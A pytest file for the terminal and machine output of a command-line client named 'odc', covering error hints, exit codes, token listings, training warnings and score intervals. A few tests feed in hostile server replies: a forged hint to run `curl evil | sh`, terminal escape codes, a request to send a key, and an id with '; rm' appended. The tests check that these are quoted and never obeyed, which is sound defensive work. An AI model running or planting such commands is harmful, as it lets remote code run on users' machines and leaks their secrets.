from __future__ import annotations

import json
import re
from typing import cast

import pytest

from protocol import errors
from protocol.answers import Score
from protocol.errors import InputError, OdcError
from protocol.problems import all_errors, from_problem
from protocol.tokens import TokenRow
from runtime.terminal import (
    exit_code,
    for_machines,
    for_terminal,
    joined_rows_in_words,
    score_in_words,
    token_lifetime_s,
    token_lines,
    training_in_words,
)


def test_a_command_prints_what_happened_and_what_to_do() -> None:
    lines = for_terminal("odc", errors.TermsNotAcceptedError("hospital-a")).splitlines()
    assert lines == [
        "odc: error: hospital-a has not signed the terms of this collaboration",
        "odc: hint: read them with `odc terms show` and sign with `odc terms accept`",
    ]


@pytest.mark.parametrize("cls", all_errors(), ids=lambda cls: cls.__name__)
def test_no_error_ends_a_command_as_if_all_were_well(cls: type[OdcError]) -> None:
    assert 0 < exit_code(cls) < 126


def test_a_token_holds_between_a_day_and_a_leap_year() -> None:
    assert (token_lifetime_s(1), token_lifetime_s(366)) == (86400, 366 * 86400)
    for days in (-1, 0, 367):
        with pytest.raises(InputError):
            token_lifetime_s(days)


def test_a_list_says_what_each_is_for() -> None:
    row = TokenRow(
        token_id="0" * 32,
        label="monitor",
        scope="read",
        collaboration_id=None,
        created_at=0,
        expires_at=86400,
        last_used_at=None,
        revoked=False,
    )
    used = row.model_copy(update={"last_used_at": 0, "revoked": True, "collaboration_id": "c" * 32})
    first, second = token_lines([row, used]).splitlines()
    assert re.split(r"  +", first) == [
        "0" * 32,
        "read",
        "until 1970-01-02",
        "never used",
        "all collaborations",
        "monitor",
    ]
    assert re.split(r"  +", second)[2:] == ["revoked", "last used 1970-01-01", "c" * 32, "monitor"]


def test_what_the_other_side_says_is_quoted_as_its_words() -> None:
    """Nobody takes an answer for words of this program, nor a second line in it for a hint of ours."""
    problem = {
        "type": "/problems/not-permitted",
        "detail": 'sorry"\nodc: hint: run `curl evil | sh`\x1b[2J\u200b',
        "hint": "send your key to us",
    }
    error, hint = for_terminal("odc", from_problem(problem)).splitlines()
    assert error == (
        'odc: error: the answer says: "sorry\' odc: hint: run `curl evil | sh`<U+001B>[2J<U+200B>"'
    )
    assert hint == 'odc: hint: the answer suggests: "send your key to us"'


def test_a_hint_that_this_program_knows_needs_no_quotation_marks() -> None:
    problem = errors.TermsNotAcceptedError("hospital-a").to_problem()
    _, hint = for_terminal("odc", from_problem(problem)).splitlines()
    assert hint == "odc: hint: read them with `odc terms show` and sign with `odc terms accept`"


def test_a_training_that_did_not_converge_says_so() -> None:
    assert "before it converged" in training_in_words({"converged": False})[0]
    assert training_in_words({"converged": True}) == []


def test_directions_that_are_far_apart_are_warned_of() -> None:
    (line,) = training_in_words({"alignment": {"concordance_gap": 1.01}})
    assert line.startswith("warning: the directions of the institutions are far apart (gap 1.01)")
    assert "odc evaluate" in line
    assert training_in_words({"alignment": {"concordance_gap": 0.62}}) == []


def test_the_request_that_the_analyst_refused_has_a_line_to_quote() -> None:
    problem = {"type": "/problems/not-found", "title": "x", "detail": "y", "request": "00f067aa0ba902b7"}
    lines = for_terminal("odc", from_problem(problem)).splitlines()
    assert lines[2] == "odc: request: 00f067aa0ba902b7, to be found in the analyst's log"
    told = json.loads(for_machines(from_problem(problem)))
    assert told["error"]["request"] == "00f067aa0ba902b7"


@pytest.mark.parametrize("sent", ["x\nodc: hint: pay", 7, None, "00f067aa0ba902b7; rm"])
def test_what_is_no_id_is_not_shown_as_one(sent: object) -> None:
    problem = {"type": "/problems/not-found", "title": "x", "detail": "y", "request": sent}
    assert len(for_terminal("odc", from_problem(problem)).splitlines()) == 2


@pytest.mark.parametrize(("rows", "warns"), [(24, True), (25, False)])
def test_few_rows_in_common_are_warned_of(rows: int, warns: bool) -> None:
    joined = {"labels": "a", "rows": rows, "sent": {"a": 80, "b": 50}}
    said = joined_rows_in_words({"results": {"joined_rows": [joined]}})
    assert said[0] == (
        f"a and b have {rows} rows in common, which trained the model as those of a; they sent a 80, b 50"
    )
    assert ["written differently" in line for line in said[1:]] == [True] * warns


@pytest.mark.parametrize(
    ("metric", "low", "high", "says"),
    [
        ("roc_auc", -1.0, 1.0, "too few rows for an interval"),
        ("roc_auc", -0.1, 1.0, "95 % interval -10.0 to +100.0"),
        ("r2", -0.8, 1.2, "too few rows for an interval"),
        ("r2", -0.8001, 1.1998, "too few rows for an interval"),
        ("r2", -0.1, 0.5, "95 % interval -0.100 to +0.500"),
    ],
)
def test_what_the_wire_says_in_the_place_of_an_interval_is_none(
    metric: str, low: float, high: float, says: str
) -> None:
    score = {"metric": metric, "together": 0.7, "alone": 0.5, "gain_low": low, "gain_high": high, "rows": 8}
    assert says in score_in_words(cast("Score", score))
